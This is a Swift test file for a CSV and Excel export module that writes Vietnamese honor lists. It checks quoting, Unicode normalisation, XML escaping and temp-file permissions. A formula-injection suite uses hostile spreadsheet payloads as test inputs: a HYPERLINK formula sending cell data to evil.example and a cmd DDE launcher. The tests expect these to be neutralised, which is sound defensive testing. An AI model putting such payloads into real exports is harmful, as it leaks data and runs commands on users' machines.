import Foundation
import Testing
import ThiduaCore
@testable import ThiduaExport

@Suite("CSV writing")
struct CSVWriterTests {
    @Test("Output starts with a BOM and ends lines with CRLF")
    func bomAndCRLF() {
        var writer = CSVWriter()
        writer.append(["STT", "Họ và tên"])
        #expect(Array(writer.data.prefix(3)) == [0xEF, 0xBB, 0xBF])
        #expect(String(decoding: writer.data.dropFirst(3), as: UTF8.self) == "STT,Họ và tên\r\n")
    }

    @Test(
        "Commas, quotes and line breaks are quoted so the row survives",
        arguments: [
            ("Dạy giỏi, chủ nhiệm tốt", "\"Dạy giỏi, chủ nhiệm tốt\""),
            ("Mô hình \"Dân vận khéo\"", "\"Mô hình \"\"Dân vận khéo\"\"\""),
            ("dòng 1\ndòng 2", "\"dòng 1\ndòng 2\""),
            ("Nguyễn Thị Ngọc Hân", "Nguyễn Thị Ngọc Hân"),
        ])
    func quoting(field: String, expected: String) {
        #expect(CSVWriter.escape(field) == expected)
    }

    @Test("Decomposed text is written NFC, byte for byte; NFC text passes through unchanged")
    func normalisesToNFC() {
        let composed = "Nguyễn Thị Ngọc Hân, Ẩn"
        let decomposed = composed.decomposedStringWithCanonicalMapping
        #expect(Array(decomposed.utf8) != Array(composed.utf8))
        #expect(Array(CSVWriter.escape(decomposed).utf8) == Array("\"\(composed)\"".utf8))
        #expect(Array(CSVWriter.escape("Đặng Văn Đức").utf8) == Array("Đặng Văn Đức".utf8))
        // A singleton that NFC replaces (Ω OHM SIGN → Ω) is outside the fast path and still normalised.
        #expect(Array(CSVWriter.escape("\u{2126}").utf8) == Array("\u{03A9}".utf8))
    }

    @Test("What the writer writes, the import reader reads back field for field")
    func roundTrip() throws {
        var writer = CSVWriter()
        let rows = [["a", "b, c"], ["\"q\"", "x\r\ny"], ["Đặng Văn Đức".decomposedStringWithCanonicalMapping, ""]]
        rows.forEach { writer.append($0) }
        let read = try CSVReader.records(try CSVReader.decode(writer.data)).map(\.fields)
        #expect(read[0] == rows[0])
        #expect(read[1] == ["\"q\"", "x\r\ny"])
        #expect(read[2] == ["Đặng Văn Đức", ""])
    }

    @Test("Workbook text escapes markup and drops the control characters XML forbids, keeping tabs and line breaks")
    func workbookText() {
        #expect(XLSXHonorListWriter.escape("Tổ <1> & \"Dân vận\"\u{01}\tdòng\n2") == "Tổ &lt;1&gt; &amp; &quot;Dân vận&quot;\tdòng\n2")
        #expect(XLSXHonorListWriter.escape("Nguyễn Thị Ngọc Hân") == "Nguyễn Thị Ngọc Hân")
    }
}

@Suite("CSV formula injection (security review F5)")
struct CSVFormulaTests {
    @Test(
        "A text cell that starts like a formula is written as text with a leading apostrophe",
        arguments: [
            ("=HYPERLINK(\"http://evil.example/?\"&A1, \"Bấm\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1, \"\"Bấm\"\")\""),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("+84 912 345 678", "'+84 912 345 678"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tx", "'\tx"), ("＝1+1", "'＝1+1"), ("＠x", "'＠x"), ("－1", "'－1"), ("＋1", "'＋1"),
            ("\rx", "\"'\rx\""),
        ])
    func neutralised(input: String, expected: String) {
        #expect(CSVWriter.escape(input) == expected)
    }

    @Test(
        "Numbers thidua writes, and ordinary text, are left as they are",
        arguments: ["540000", "-3", "-0.5", "0.3", "Nguyễn Văn A", "Tổ 1-2"])
    func untouched(input: String) {
        #expect(CSVWriter.escape(input) == input)
    }

    @Test("A decimal comma is quoted (it is a separator), not neutralised")
    func decimalComma() {
        #expect(CSVWriter.escape("88,5") == "\"88,5\"")
        #expect(CSVWriter.escape("-88,5") == "\"-88,5\"")
    }
}

@Suite("Temporary files (security review F19c)")
struct TemporaryFileTests {
    @Test("A workbook being assembled sits in a folder only its owner can read")
    func workbookFolderPrivate() throws {
        let writer = try XLSXHonorListWriter()
        defer { writer.discard() }
        let folder = try FileManager.default.attributesOfItem(atPath: writer.folder.path)[.posixPermissions] as? Int
        let sheet =
            try FileManager.default.attributesOfItem(atPath: writer.folder.appending(path: "sheet1.xml").path)[.posixPermissions] as? Int
        #expect(folder == 0o700)
        #expect(sheet == 0o600)
    }
}
